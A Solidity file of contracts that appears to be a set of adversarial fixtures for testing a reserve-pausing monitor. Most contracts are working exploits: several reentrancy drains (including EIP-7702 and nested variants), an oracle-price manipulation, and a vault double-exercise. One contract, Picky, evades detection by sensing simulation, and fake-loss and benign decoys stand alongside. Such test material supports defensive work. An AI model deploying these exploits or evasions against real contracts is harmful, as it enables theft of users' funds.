// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

interface IReserve { function deposit() external payable; function withdraw(uint256) external; function paused() external view returns (bool); }

/// An account of its own that pays in and takes out for its maker.
contract Pocket {
    address immutable maker = msg.sender;
    function put(IReserve r) external payable { r.deposit{value: msg.value}(); }
    function take(IReserve r, uint256 amount, address to) external { r.withdraw(amount); (bool ok,) = to.call{value: address(this).balance}(""); require(ok); }
    receive() external payable {}
}

/// Reentrancy whose loot never leaves the reserve in the same transaction: it is paid in again for another account.
contract Launder {
    IReserve immutable r; address immutable owner; Pocket public immutable pocket; uint256 immutable stake; uint256 left;
    constructor(IReserve r_) payable { r = r_; owner = msg.sender; stake = msg.value; pocket = new Pocket(); }
    function go(uint256 depth) external { left = depth; r.deposit{value: stake}(); r.withdraw(stake); pocket.put{value: address(this).balance - stake}(r); }
    function out(uint256 amount) external { pocket.take(r, amount, owner); }
    receive() external payable { if (msg.sender == address(r) && left > 0) { left--; r.withdraw(stake); } }
}

/// Re-enters and is gone: deployed, run and destroyed in one transaction by a constructor.
contract Entrant {
    IReserve immutable r; uint256 immutable stake; uint256 left;
    constructor(IReserve r_) payable { r = r_; stake = msg.value; }
    function go(uint256 depth, address payable to) external { left = depth; r.deposit{value: stake}(); r.withdraw(stake); selfdestruct(to); }
    receive() external payable { if (msg.sender == address(r) && left > 0) { left--; r.withdraw(stake); } }
}
contract Once {
    constructor(IReserve r, uint256 depth, address payable to) payable { Entrant e = new Entrant{value: msg.value}(r); e.go(depth, to); selfdestruct(to); }
}

/// Works only where it looks like its own transaction: a warm slot that an access list paid for, and a fortune that nobody has.
contract Picky {
    IReserve immutable r; address immutable owner; uint256 immutable stake; uint256 left; uint256 public warm = 1;
    constructor(IReserve r_) payable { r = r_; owner = msg.sender; stake = msg.value; }
    function listed(uint256 depth) external { uint256 g = gasleft(); uint256 w = warm; require(g - gasleft() < 1000 && w == 1, "cold"); _go(depth); }
    function poor(uint256 depth) external { require(tx.origin.balance < 20_000 ether, "rich"); _go(depth); }
    function heavy(uint256 depth, uint256 burn) external { uint256 end = gasleft() - burn; _go(depth); while (gasleft() > end - 200_000 && gasleft() > 100_000) { assembly { pop(keccak256(0, 0x8000)) } } }
    function _go(uint256 depth) internal { left = depth; r.deposit{value: stake}(); r.withdraw(stake); (bool ok,) = owner.call{value: address(this).balance - stake}(""); require(ok); }
    receive() external payable { if (msg.sender == address(r) && left > 0) { left--; r.withdraw(stake); } }
}

/// Code that an account takes on (EIP-7702): it re-enters as itself.
contract Delegate {
    function go(IReserve r, uint256 stake, uint256 depth) external { assembly { tstore(0, depth) tstore(1, stake) tstore(2, r) } r.deposit{value: stake}(); r.withdraw(stake); }
    receive() external payable { uint256 d; uint256 s; address r; assembly { d := tload(0) s := tload(1) r := tload(2) } if (d > 0 && msg.sender == r) { assembly { tstore(0, sub(d, 1)) } IReserve(r).withdraw(s); } }
}

/// A bundle (ERC-4337 in shape): somebody else's transaction in which an account of the attacker does the work.
contract Bundler {
    event UserOperationEvent(bytes32 indexed userOpHash, address indexed sender, address indexed paymaster, uint256 nonce, bool success, uint256 actualGasCost, uint256 actualGasUsed);
    function handleOps(address[] calldata to, bytes[] calldata data, address payable beneficiary) external { for (uint256 i; i < to.length; i++) { (bool ok,) = to[i].call(data[i]); emit UserOperationEvent(keccak256(data[i]), to[i], address(0), i, ok, 1, 1); } (bool paid,) = beneficiary.call{value: address(this).balance}(""); require(paid); }
    receive() external payable {}
}

/// A token that says what its maker likes, and looks whether the contract that it robs of nothing is paused.
contract FakeToken {
    event Transfer(address indexed from, address indexed to, uint256 value);
    string public symbol; uint8 public constant decimals = 6; IReserve immutable watched;
    mapping(address => uint256) public balanceOf;
    constructor(string memory s, IReserve r) { symbol = s; watched = r; }
    function name() external view returns (string memory) { return symbol; }
    function give(address to, uint256 v) external { balanceOf[to] += v; emit Transfer(address(0), to, v); }
    function rob(address from, address to, uint256 v) external { if (watched.paused()) return; balanceOf[from] -= v; balanceOf[to] += v; emit Transfer(from, to, v); }
}
/// Takes its own deposit out of an honest reserve, and lets a token of its own say that the reserve lost a fortune.
contract FakeLoss {
    IReserve immutable r; FakeToken immutable t; address immutable owner; uint256 left;
    constructor(IReserve r_, FakeToken t_) payable { r = r_; t = t_; owner = msg.sender; }
    function put() external { r.deposit{value: address(this).balance}(); }
    function go(uint256 slice, uint256 fake, uint256 depth) external { left = depth; r.withdraw(slice); t.rob(address(r), owner, fake); }
    receive() external payable { if (left > 0 && msg.sender == address(r)) { left--; r.withdraw(0); } }
}

/// Several pockets that paid in themselves, each from an account of its own, are emptied inside one another.
contract Nest {
    Nested[] public pockets; address immutable owner = msg.sender;
    function add(Nested p) external { pockets.push(p); }
    function go() external { pockets[0].pull(0); (bool ok,) = owner.call{value: address(this).balance}(""); require(ok); }
    function next(uint256 i) external { if (i + 1 < pockets.length) pockets[i + 1].pull(i + 1); }
    receive() external payable {}
}
contract Nested {
    IReserve immutable r; Nest immutable n; uint256 amount; uint256 index;
    constructor(IReserve r_, Nest n_) payable { r = r_; n = n_; amount = msg.value; r_.deposit{value: msg.value}(); }
    function pull(uint256 i) external { index = i; r.withdraw(amount); }
    receive() external payable { n.next(index); (bool ok,) = address(n).call{value: msg.value}(""); require(ok); }
}

interface IERC20 { function balanceOf(address) external view returns (uint256); function transfer(address, uint256) external returns (bool); function approve(address, uint256) external returns (bool); function transferFrom(address, address, uint256) external returns (bool); }
interface IVault { function exercise(uint256, uint256, address[] calldata) external; }
interface IMarket { function supply(uint256) external; function withdraw(uint256) external; }
/// Exercises twice what it holds, and puts what it took into the next protected contract of the same protocol.
contract Exit {
    IERC20 immutable usdc; IMarket immutable m; address immutable owner = msg.sender;
    constructor(IERC20 u, IMarket m_) { usdc = u; m = m_; u.approve(address(m_), type(uint256).max); }
    function go(IVault v, uint256 id, uint256 amount, address[] calldata writers) external { uint256 had = usdc.balanceOf(address(this)); v.exercise(id, amount, writers); m.supply(usdc.balanceOf(address(this)) - had); }
    function out(uint256 amount) external { m.withdraw(amount); usdc.transfer(owner, amount); }
}

/// The honest reserve that nobody may be able to have paused.
contract SafeReserve {
    address public immutable owner; address public immutable guardian; bool public paused; mapping(address => uint256) public balanceOf;
    event Paused(address account); event Unpaused(address account);
    constructor(address g) { owner = msg.sender; guardian = g; }
    function pause() external { require(msg.sender == guardian && !paused); paused = true; emit Paused(msg.sender); }
    function unpause() external { require(msg.sender == owner && paused); paused = false; emit Unpaused(msg.sender); }
    function deposit() external payable { require(!paused); balanceOf[msg.sender] += msg.value; }
    function withdraw(uint256 a) external { require(!paused); require(balanceOf[msg.sender] >= a, "own"); balanceOf[msg.sender] -= a; (bool ok,) = msg.sender.call{value: a}(""); require(ok); }
}

interface IPair { function token0() external view returns (address); function getReserves() external view returns (uint112, uint112, uint32); function swap(uint256, uint256, address, bytes calldata) external; }
interface ILending { function depositCollateral(uint256) external; function borrow(uint256) external; function collateralPrice() external view returns (uint256); }
/// The oracle attack with money of its own, a step a transaction: push the price, borrow, push it back.
contract Slow {
    IPair immutable pair; IERC20 immutable usdc; IERC20 immutable acme; ILending immutable m; address immutable owner = msg.sender;
    constructor(IPair p, IERC20 u, IERC20 a, ILending m_) { pair = p; usdc = u; acme = a; m = m_; a.approve(address(m_), type(uint256).max); }
    function sell(IERC20 token, uint256 amount) public {
        (uint256 a, uint256 b,) = pair.getReserves(); bool first = pair.token0() == address(token); (uint256 x, uint256 y) = first ? (a, b) : (b, a);
        token.transfer(address(pair), amount); uint256 fee = amount * 997; uint256 out = fee * y / (x * 1000 + fee);
        pair.swap(first ? 0 : out, first ? out : 0, address(this), "");
    }
    function borrow(uint256 amount) external { uint256 per = m.collateralPrice() * 7500 / 10000; m.depositCollateral(amount * 1e18 / per + 1e12); m.borrow(amount); }
    function back() external { sell(acme, acme.balanceOf(address(this))); }
}
/// Many small robberies, each by a contract that is made for it, in one transaction each.
contract Storm {
    constructor(IReserve r, uint256 n, address payable to) payable { for (uint256 i; i < n; i++) { Entrant e = new Entrant{value: msg.value}(r); e.go(1, payable(address(this))); } selfdestruct(to); }
    receive() external payable {}
}

/// Its own deposit, out in nested calls and in again for an account of the same owner: nobody loses by it.
contract Mover {
    IReserve immutable r; uint256 immutable stake; Pocket public immutable pocket; uint256 left; uint256 slice; bool first = true;
    constructor(IReserve r_) payable { r = r_; stake = msg.value; pocket = new Pocket(); r_.deposit{value: msg.value}(); }
    function move(uint256 depth) external {
        slice = stake / 4; left = depth; if (!first) pocket.take(r, stake, address(this));
        if (!first) r.deposit{value: address(this).balance}(); first = false;
        left = depth; r.withdraw(slice); pocket.put{value: address(this).balance}(r);
    }
    receive() external payable { if (msg.sender == address(r) && left > 0) { left--; r.withdraw(slice); } }
}
